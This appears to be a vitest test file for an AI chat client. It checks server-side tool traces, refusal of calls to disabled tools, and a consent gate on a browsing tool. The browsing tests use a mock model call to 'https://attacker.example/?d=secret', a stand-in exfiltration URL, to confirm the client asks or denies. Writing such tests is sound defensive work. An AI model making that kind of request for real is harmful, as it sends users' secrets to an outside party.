import { describe, expect, test } from "vitest";
import type { TurnOptions } from "../../../src/chat/contract/turn.ts";
import { recordedCards } from "../../../src/ui/tools/toolCards.ts";
import { ToolRegistry } from "../../../src/tools/catalog/toolRegistry.ts";
import { plainOptions, waitUntil } from "../../helpers/chatBench.ts";
import { jsonReply, streamed } from "../../helpers/httpScripts.ts";
import { callFrame, calling, makeToolChat, saying, type ToolChat } from "../../helpers/toolChat.ts";

const input = '{"code":"print(1)"}';
const call = {
	role: "assistant",
	content: "",
	function_call: { name: "code_interpreter", arguments: input },
};
const result = { role: "function", name: "code_interpreter", content: "1" };
const toolCall = {
	role: "assistant",
	content: "",
	...JSON.parse(callFrame(["s1", "code_interpreter", input])),
};
const toolResult = { role: "tool", tool_call_id: "s1", content: "1" };
const text = { role: "assistant", content: "It prints 1." };

function stream(...messages: readonly unknown[]) {
	const frames = messages.flatMap(message => [JSON.stringify(message), "{}", "[DONE]"]);
	return streamed(...frames, "[END]");
}

async function askWith(chat: ToolChat, serverTools: "code_interpreter"[]): Promise<void> {
	await chat.session.send("Go", { ...plainOptions, serverTools });
	await waitUntil(() => !chat.session.isBusy);
}

describe("the trace of a tool that ran on the server", () => {
	test.each([
		["function_call with its function message", [call, result, text]],
		["tool call with its tool message", [toolCall, toolResult, text]],
	])("a %s costs no further request and is shown with its result", async (_, messages) => {
		const chat = await makeToolChat([stream(...messages)]);
		await askWith(chat, []);
		expect(chat.server.posts).toBe(1);
		const [turn] = chat.session.turns;
		expect(turn?.progress.state).toBe("complete");
		expect(turn && recordedCards(new ToolRegistry(), turn)).toMatchObject([
			{ name: "code_interpreter", title: "Code interpreter", state: "done", result: "1" },
		]);
		const shown = chat.changes.filter(({ type }) => type === "tool-call");
		expect(shown).toMatchObject([{ state: { state: "done", content: "1" } }]);
	});

	test.each([
		["streamed", stream(call, text)],
		["as JSON", { steps: [jsonReply(200, { messages: [toolCall, text] })] }],
	])("a call named like a server tool that is on is never answered, %s", async (_, script) => {
		const chat = await makeToolChat([script, saying("Done.")]);
		await askWith(chat, ["code_interpreter"]);
		expect(chat.server.posts).toBe(1);
		await askWith(chat, ["code_interpreter"]);
		const roles = chat.bodies()[1]?.messages.map(({ role }) => role);
		expect(roles).toEqual(["user", "assistant", "assistant", "user"]);
	});

	test("does not keep a call of ours beside it from being answered", async () => {
		const chat = await makeToolChat([
			stream(toolCall, toolResult, {
				role: "assistant",
				content: "",
				...JSON.parse(callFrame(["c1", "list_files", {}])),
			}),
			saying("Done."),
		]);
		await askWith(chat, ["code_interpreter"]);
		expect(Object.keys(chat.results())).toEqual(["s1", "c1"]);
		expect(chat.server.posts).toBe(2);
	});
});

test("a call that comes although nothing was offered ends the turn", async () => {
	const chat = await makeToolChat([calling(["c1", "list_files", {}])]);
	for (const { name } of chat.bench.gate.offered(false)) {
		chat.bench.off.add(name);
	}
	await askWith(chat, []);
	expect(chat.server.posts).toBe(1);
	expect(chat.changes).toContainEqual(
		expect.objectContaining({ type: "tool-call", state: { state: "stopped" } }),
	);
});

test("U9: three calls of a tool that is switched off pause before the next request", async () => {
	const scripts = ["a", "b", "c", "d"].map(id => calling([id, "list_files", {}]));
	const chat = await makeToolChat(scripts);
	chat.bench.off.add("list_files");
	await askWith(chat, []);
	expect(chat.pauses).toEqual(["badCalls"]);
	expect(chat.server.posts).toBe(3);
});

describe("T36: Browsing of the local service", () => {
	const url = "https://attacker.example/?d=secret";
	const browse: TurnOptions = { ...plainOptions, serverTools: [], mayBrowse: true };

	test("is a tool of ours, whose call the user is asked about", async () => {
		const chat = await makeToolChat([calling(["b1", "browsing", { url }]), saying("Done.")]);
		await chat.session.send("Go", browse);
		await waitUntil(() => !chat.session.isBusy);
		const [request] = chat.bodies();
		expect(request).not.toHaveProperty("tools");
		expect(JSON.stringify(request?.["custom_tools"])).toContain('"name":"browsing"');
		expect(chat.bench.asked).toMatchObject([{ address: url }]);
		expect(chat.bench.editor.effects).toEqual([]);
		expect(chat.results()["b1"]).toMatch(/^Denied/);
	});

	test("is read at once where the user typed the address", async () => {
		const chat = await makeToolChat([calling(["b1", "browsing", { url }]), saying("Done.")]);
		chat.bench.gate.noteTyped(chat.session.id, [url]);
		await chat.session.send(`Read ${url}`, browse);
		await waitUntil(() => !chat.session.isBusy);
		expect(chat.bench.asked).toEqual([]);
		expect(chat.results()["b1"]).toContain("Word");
	});

	test("is not offered to a question that was asked without it, and a call of it is refused", async () => {
		const chat = await makeToolChat([calling(["b1", "browsing", { url }]), saying("Done.")]);
		await askWith(chat, []);
		expect(JSON.stringify(chat.bodies()[0])).not.toContain('"name":"browsing"');
		expect(chat.bench.asked).toEqual([]);
		expect(chat.results()["b1"]).toContain("switched Browsing off");
	});
});
